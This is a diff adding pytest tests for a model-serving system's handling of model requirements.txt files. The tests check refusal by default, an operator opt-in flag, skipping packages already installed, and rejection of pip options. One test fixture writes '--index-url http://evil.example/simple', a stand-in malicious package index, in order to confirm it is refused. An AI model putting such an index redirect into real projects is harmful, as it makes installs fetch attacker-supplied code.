@@ -67,3 +67,61 @@ def test_bad_runtime_environment_names_the_field(tmp_path: Path, runtime_environ
 def test_oci_image_reference_is_refused_with_a_pointer() -> None:
     with pytest.raises(SpecError, match="OCI image references .* containers/README.md"):
         container(Image="123456789012.dkr.ecr.us-east-1.amazonaws.com/serving-onnx:0.1.0")
+
+
+# --- a model's code/requirements.txt: installed outside the sandbox, so only where the operator allows it --------
+
+def requirements_model(tmp_path: Path, text: str) -> Path:
+    folder = tmp_path / "model"
+    (folder / "code").mkdir(parents=True)
+    (folder / "code" / "requirements.txt").write_text(text)
+    return folder
+
+
+def test_requirements_that_would_install_a_package_are_refused_by_default(tmp_path: Path) -> None:
+    folder = requirements_model(tmp_path, "numpy>=1\nsurely-not-installed-pkg==1.0\n")
+    spec = container(ModelDataUrl=str(folder))
+    with pytest.raises(SpecError) as caught:
+        ray_runtime_env(spec)
+    message = str(caught.value)
+    assert message.startswith("Containers[c].ModelDataUrl:")
+    assert "surely-not-installed-pkg==1.0" in message and "numpy" not in message  # numpy needs no install
+    assert "SERVING_ALLOW_MODEL_REQUIREMENTS" in message and "RuntimeEnvironment.Pip" in message
+
+
+def test_the_plan_of_every_deploy_holds_the_same_rule(tmp_path: Path) -> None:
+    from serving.control.plans import endpoint_record
+    from serving.settings import ServerSettings
+
+    folder = requirements_model(tmp_path, "surely-not-installed-pkg==1.0\n")
+    spec = parse_spec({"EndpointName": "env", "Containers": [{"ContainerHostname": "c", "Image": "python",
+                                                               "ModelDataUrl": str(folder)}]})
+    with pytest.raises(SpecError, match="surely-not-installed-pkg"):
+        endpoint_record(spec, ServerSettings())
+    record = endpoint_record(spec, ServerSettings(allow_model_requirements=True))
+    runtime_env = record["plans"]["c"]["actor_options"]["runtime_env"]
+    assert runtime_env["pip"]["packages"] == ["surely-not-installed-pkg==1.0"]
+
+
+def test_allowed_requirements_install_only_what_is_missing(tmp_path: Path) -> None:
+    folder = requirements_model(tmp_path, "numpy>=1\nsurely-not-installed-pkg==1.0\nhttps://example.com/pkg.whl\n")
+    env = ray_runtime_env(container(ModelDataUrl=str(folder)), allow_model_requirements=True)
+    # a URL names no project to look up, so it counts as an install
+    assert env["pip"]["packages"] == ["surely-not-installed-pkg==1.0", "https://example.com/pkg.whl"]
+
+
+def test_requirements_this_python_satisfies_need_no_runtime_env(tmp_path: Path) -> None:
+    folder = requirements_model(tmp_path, "numpy>=1\npackaging\n")
+    assert ray_runtime_env(container(ModelDataUrl=str(folder))) == {}  # no virtualenv copied for a no-op install
+
+
+def test_requirements_the_spec_lists_in_pip_are_vouched_for(tmp_path: Path) -> None:
+    folder = requirements_model(tmp_path, "surely-not-installed-pkg==1.0\n")
+    spec = container(ModelDataUrl=str(folder), RuntimeEnvironment={"Pip": ["surely-not-installed-pkg==1.0"]})
+    assert ray_runtime_env(spec)["pip"]["packages"] == ["surely-not-installed-pkg==1.0"]
+
+
+def test_a_pip_option_in_requirements_names_the_container(tmp_path: Path) -> None:
+    folder = requirements_model(tmp_path, "--index-url http://evil.example/simple\n")
+    with pytest.raises(SpecError, match=r"^Containers\[c\].ModelDataUrl: code/requirements.txt: .* is a pip option"):
+        ray_runtime_env(container(ModelDataUrl=str(folder)), allow_model_requirements=True)
